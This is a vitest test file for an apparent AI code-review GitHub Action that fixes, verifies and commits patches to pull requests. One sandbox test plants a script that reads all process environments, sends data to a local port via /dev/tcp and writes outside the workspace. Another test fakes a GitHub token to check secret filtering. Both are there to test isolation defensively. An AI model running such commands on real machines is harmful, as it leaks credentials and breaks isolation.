import { readFile } from "node:fs/promises";
import { createServer } from "node:net";
import { join } from "node:path";
import { expect, it, vi } from "vitest";
import { replace } from "../world/models/call.ts";
import { temporaryFolder } from "../world/temporary-folder.ts";
import { action } from "./agents.ts";
import {
  bodies,
  clumsy,
  coupon,
  findsBroken,
  fromFork,
  open,
  probe,
  quick,
  sampleFixer,
  settled,
  use,
} from "./fixing.ts";

// A run of four agents each, some tests two of them.
vi.setConfig({ testTimeout: 120_000 });

it("gives a patch that fails verify back to the fixer once, and commits what passes then", async () => {
  await using world = await open(clumsy(true));
  const { github, pull, repository, models } = world;
  const { report, fixOf, step } = await use(world, { fix: "commit", verify: findsBroken });
  // One request for each commit, and one document with every reply and resolve.
  expect(github.requests("graphql/createCommitOnBranch")).toHaveLength(7);
  expect(github.requests("graphql/addPullRequestReviewThreadReply")).toHaveLength(1);
  expect(pull.threads.every((thread) => thread.resolved)).toBe(true);
  expect(report.fixes.map((fix) => fix.status)).toEqual(Array(7).fill("fixed"));
  expect(report.fixes.map((fix) => fix.verify)).toEqual(Array(7).fill("passed"));
  expect(fixOf(/fractions/)?.patch).not.toContain("BROKEN");
  expect(await repository.read(pull.headSha, "src/orders/cart.ts")).toContain("Math.round(");
  const told = models.requests.filter((one) => one.text.includes("own check does not pass"));
  expect(told[0]?.text).toContain("the cart is broken");
  expect(step.outputs["fixed-count"]).toBe("7");
  const judged = /\(✅ verified · confirmed by `(?:claude|codex)`/;
  for (const text of [pull.comments[0]?.body ?? "", step.summary]) {
    expect(text.split(judged)).toHaveLength(8);
  }
  const commented = bodies(pull).filter((body) =>
    body.includes("Patch ✅ verified · confirmed by"),
  );
  expect(commented.length).toBeGreaterThan(4);
  expect(report.notices.join()).toContain("starts no workflows");
  settled(world);
});

it("drops a patch that goes on failing verify, with the reason, and keeps the others", {
  tags: ["nightly"],
}, async () => {
  await using world = await open(clumsy(false));
  const { pull, repository } = world;
  const { report, fixOf } = await use(world, { fix: "commit", verify: findsBroken });
  const dropped = fixOf(/fractions/);
  expect(dropped).toMatchObject({ status: "rejected", verify: "failed", patch: null });
  expect(dropped?.reason).toContain("exit code 3: the cart is broken");
  expect(report.fixes.filter((fix) => fix.commit !== null)).toHaveLength(6);
  const cart = await repository.read(pull.headSha, "src/orders/cart.ts");
  expect(cart).not.toContain("BROKEN");
  expect(cart).toContain("(1 - coupon.percent / 100)");
  settled(world);
});

it("says that verify cannot judge where it fails on the untouched head, and commits nothing", {
  tags: ["nightly"],
}, async () => {
  await using world = await open();
  const { github, pull } = world;
  const verify = "echo no tests here; exit 4";
  const { report, notices } = await use(world, { ...quick, fix: "commit", verify });
  expect(notices).toContain("verify cannot judge them");
  expect(notices).toContain("exit code 4: no tests here");
  expect(notices).toContain("suggested, not committed");
  expect(report.fixes.every((fix) => fix.verify === "cannot-judge")).toBe(true);
  expect(github.requests("graphql/createCommitOnBranch")).toEqual([]);
  expect(bodies(pull).join("\n")).toContain("```suggestion");
  expect(pull.comments[0]?.body).toContain("cannot judge");
  expect(bodies(pull).join("\n")).toContain("Patch unverified: ");
  settled(world);
});

it("verifies the fixes of all lanes together, and drops the lowest rank first where only that fails", {
  tags: ["nightly"],
}, async () => {
  await using world = await open();
  const { pull, repository } = world;
  // Each of the two passes alone; the lanes do not see each other.
  const both =
    "grep -q 'Math.round' src/orders/cart.ts && grep -q 'await assert' test/cart.test.ts";
  const inputs = { fix: "commit", "fix-lanes": "8", verify: `if ${both}; then exit 5; fi` };
  const { report, fixOf } = await use(world, inputs);
  const dropped = report.fixes.filter((fix) => fix.status === "rejected");
  expect(dropped).toEqual([report.fixes.at(-1)]);
  expect(dropped[0]).toMatchObject({ verify: "failed" });
  expect(dropped[0]?.reason).toContain("together with the fixes before it");
  const kept = [fixOf(/fractions/), fixOf(/rejects/)].map((fix) => fix?.status);
  expect(kept.toSorted()).toEqual(["fixed", "rejected"]);
  const committed = await Promise.all([
    repository.read(pull.headSha, "src/orders/cart.ts"),
    repository.read(pull.headSha, "test/cart.test.ts"),
  ]);
  expect(committed.filter((text) => /Math\.round|await assert/.test(text ?? ""))).toHaveLength(1);
  settled(world);
});

it("lets two threads fix side by side, and commits in rank order", {
  tags: ["nightly"],
}, async () => {
  const lanes = new Set<string>();
  let open2: () => void = () => undefined;
  const both = new Promise<void>((resolve) => {
    open2 = resolve;
  });
  await using world = await open(async (request) => {
    // No thread gets an answer before a second one has asked.
    lanes.add(request.conversation);
    if (lanes.size === 2) open2();
    await both;
    return sampleFixer(request);
  });
  const { github, pull, repository } = world;
  const { report } = await use(world, { fix: "commit", "fix-lanes": "2" });
  expect(lanes.size).toBe(2);
  expect(report.fixes.map((fix) => fix.status)).toEqual(Array(7).fill("fixed"));
  const headlines = github
    .requests("graphql/createCommitOnBranch")
    .map(({ body }) => /"headline":"([^"]+)/.exec(JSON.stringify(body))?.[1]);
  const titles = report.issues.filter((one) => report.fixes.some((fix) => fix.issue === one.id));
  expect(headlines).toEqual(titles.map(({ title }) => expect.stringContaining(title.slice(0, 30))));
  expect(await repository.read(pull.headSha, "src/orders/inventory.ts")).toContain(
    "stockForUpdate",
  );
  expect(await repository.read(pull.headSha, "src/orders/cart.ts")).toContain("Math.round(");
  settled(world);
});

it.skipIf(probe.status !== "works")(
  "keeps the pull request's code in a jail while verify executes it",
  async () => {
    await using outside = await temporaryFolder("outside");
    let connections = 0;
    const canary = createServer((socket) => {
      connections += 1;
      socket.end();
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    const address = canary.address();
    const port = typeof address === "object" ? address?.port : 0;
    await using world = await open();
    const { repository, runner, models } = world;
    const written = join(outside.path, "written");
    const attack = [
      // Names only: what a failure prints must not hold this machine's values.
      "echo ENVIRONMENT; (env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n') | cut -d= -f1",
      `echo FILES; ls ${runner.temp} ${outside.path} ${action} 2>&1 | head -5`,
      `echo NETWORK; (echo leak > /dev/tcp/127.0.0.1/${port}) 2>&1 | tail -1`,
      `echo WRITE; (echo owned > ${written}) 2>&1; echo own > "$HOME/x" && echo "wrote home"`,
      "mkdir -p locked/in && chmod 000 locked",
      // Silent on the untouched head, so that the patch's output goes to the fixer, where the test can read it.
      "if grep -q 'percent / 100);' src/orders/cart.ts; then exit 0; else exit 7; fi",
    ];
    await repository.commit("coupons", {
      files: { "test/run.sh": `${attack.join("\n")}\n` },
      author: "alice",
    });
    const inputs = { fix: "commit", verify: "bash test/run.sh", isolation: "required" };
    const { fixOf, step } = await use(world, inputs);
    expect(fixOf(/fractions/)).toMatchObject({ status: "rejected", verify: "failed" });
    const [told = ""] = models.requests
      .filter((one) => one.vendor === "gemini" && one.text.includes("own check does not pass"))
      .map((one) => one.text);
    expect(told).toContain("ENVIRONMENT");
    expect(told).toContain("wrote home");
    expect(told).not.toContain("crosscheck-report");
    const names = (told.split("ENVIRONMENT\n")[1]?.split("\nFILES")[0] ?? "").split("\n");
    const ofShell = ["PWD", "OLDPWD", "SHLVL", "_"];
    const ours = ["CROSSCHECK_RUN", "CROSSCHECK_PROCESS"];
    const allowed = ["HOME", "PATH", "TMPDIR", ...ofShell, ...ours, ""];
    expect(names).toEqual(expect.arrayContaining(["HOME", "PATH", "TMPDIR"]));
    expect(names.filter((name) => !allowed.includes(name))).toEqual([]);
    expect(told).toMatch(/NETWORK\n.*(refused|unreachable)/i);
    await expect(readFile(written)).rejects.toThrow();
    expect(connections).toBe(0);
    expect(step.leaks).toEqual([]);
    settled(world);
    await new Promise((resolve) => canary.close(resolve));
  },
);

it("opens one pull request with the fixes, and brings it up to date on the next run", async () => {
  await using world = await open();
  const { github, pull, repository } = world;
  repository.settings.actionsMayApprove = true;
  const reviewed = pull.headSha;
  const first = await use(world, { fix: "pull-request" });
  expect(pull.headSha).toBe(reviewed);
  const proposals = () => [...repository.pulls.values()].filter((one) => one !== pull);
  const [proposal, ...more] = proposals();
  expect(more).toEqual([]);
  expect(proposal).toMatchObject({
    headRef: `crosscheck/fixes-${pull.number}`,
    baseRef: "coupons",
    state: "open",
  });
  expect(proposal?.body?.match(/^\| `/gm)).toHaveLength(7);
  const tip = proposal?.headSha ?? "";
  expect(await repository.read(tip, "src/orders/cart.ts")).toContain("Math.round(");
  expect(await repository.head(`crosscheck/fixes-${pull.number}-next`)).toBeUndefined();
  expect(first.notices).toContain(`proposed in pull request ${proposal?.number}`);
  expect(first.notices).toContain("starts no workflows");
  const replies = () => pull.threads.map((thread) => thread.comments.length);
  const answers = pull.threads.map((thread) => thread.comments[1]?.body ?? "");
  for (const answer of answers) expect(answer).toContain(`proposed in #${proposal?.number}`);
  expect(pull.threads.every((thread) => !thread.resolved)).toBe(true);

  const before = replies();
  await repository.commit("coupons", {
    files: { "README.md": "# Shop\n" },
    author: "alice",
  });
  const event = await github.event("workflow_dispatch", null, repository);
  const dispatch = { "pull-request": String(pull.number), fix: "pull-request" };
  await use(world, dispatch, { event });
  expect(proposals()).toHaveLength(1);
  expect(proposal?.state).toBe("open");
  // The issues that are still open are fixed anew, on top of the new head.
  expect(await repository.read(proposal?.headSha ?? "", "README.md")).toBe("# Shop\n");
  expect(await repository.read(proposal?.headSha ?? "", "src/orders/cart.ts")).toContain("round(");
  expect(proposal?.body?.match(/^\| `/gm)).toHaveLength(7);
  expect(replies()).toEqual(before);
  settled(world);
});

it.each(["commit", "pull-request"])(
  "falls back to suggestions before it fixes where the token may not push (fix: %s)",
  async (fix) => {
    await using world = await open();
    const { github, pull, models } = world;
    const permissions = { contents: "read", "pull-requests": "write" } as const;
    const { report, notices } = await use(world, { ...quick, fix }, { permissions });
    expect(notices).toMatch(/not committed: .*token.* acme\/shop/);
    expect(pull.comments[0]?.body).toContain("suggested, not committed");
    expect(bodies(pull).join("\n")).toContain("```suggestion");
    // Each patch applies to the head alone: the fixer was told that its earlier edits are gone.
    const prompts = models.requests.filter((one) => one.vendor === "gemini").map((one) => one.text);
    expect(prompts.some((text) => text.includes("was reset to the reviewed state"))).toBe(true);
    expect(report.fixes.every((one) => one.commit === null)).toBe(true);
    expect(github.requests("graphql/createCommitOnBranch")).toEqual([]);
    expect(github.requests("git/create-ref")).toEqual([]);
    settled(world);
  },
);

it("executes nothing of a stranger's where there is no jail, and what a writer's where there is none", async () => {
  await using ran = await temporaryFolder("ran");
  const verify = `echo ran >> ${join(ran.path, "log")}`;
  await using world = await open();
  const { pull, event, inputs } = await fromFork(world);
  const one = { "max-fixes": "1", vote: "false", "confirm-fixes": "false" };
  const without = { ...one, verify, isolation: "off" };
  const foreign = await use(world, { ...inputs, ...without, fix: "suggest" }, { event });
  expect(foreign.notices).toContain("the change's author has no write access");
  expect(foreign.report.fixes.every((fix) => fix.verify === "not-allowed")).toBe(true);
  expect(bodies(pull).join("\n")).toContain("```suggestion");
  await expect(readFile(join(ran.path, "log"))).rejects.toThrow();

  const own = await use(world, { ...without, fix: "commit" });
  expect(own.report.fixes.every((fix) => fix.verify === "passed")).toBe(true);
  expect(await readFile(join(ran.path, "log"), "utf8")).toContain("ran");
  settled(world);
});

it("drops patches outside the allowed paths, and those that bring a secret", async () => {
  const key = ["ghp", "0123456789abcdefghijABCDEFGHIJ"].join("_");
  await using world = await open((request) => {
    if (coupon === undefined) throw new Error("the sample has no coupon issue");
    if (!/^Issue at .*fractions of a cent/m.test(request.text)) return sampleFixer(request);
    if (request.toolResults.length > 0) return { text: "Done." };
    return { calls: [replace(coupon.file, coupon.oldText, `  const key = "${key}";`)] };
  });
  const { fixOf, report, step } = await use(world, { fix: "suggest", "fix-paths": "src/" });
  expect(fixOf(/fractions/)?.reason).toBe("it adds what looks like a secret");
  expect(fixOf(/rejects/)?.reason).toContain("is not among the allowed paths");
  expect(report.fixes.filter((fix) => fix.status === "fixed")).toHaveLength(5);
  expect(step.log.join("\n")).not.toContain(key);
  settled(world);
});

it("answers a fix command that cannot commit with the reason and the patches", {
  tags: ["nightly"],
}, async () => {
  await using world = await open();
  const { github, pull } = world;
  await use(world, { fix: "off" });
  const comment = github.comment(pull, { author: "alice", body: "/crosscheck fix high" });
  const event = await github.event("issue_comment", "created", comment);
  const permissions = { contents: "read", "pull-requests": "write" } as const;
  await use(world, {}, { event, permissions });
  const answer = pull.comments.at(-1)?.body ?? "";
  expect(answer).toMatch(/not committed: .*token/);
  expect(answer).toContain("```diff");
  expect(answer).toContain("like $1");
  expect(comment.reactions.map((one) => one.content)).toEqual(["eyes", "confused"]);
  settled(world);
});
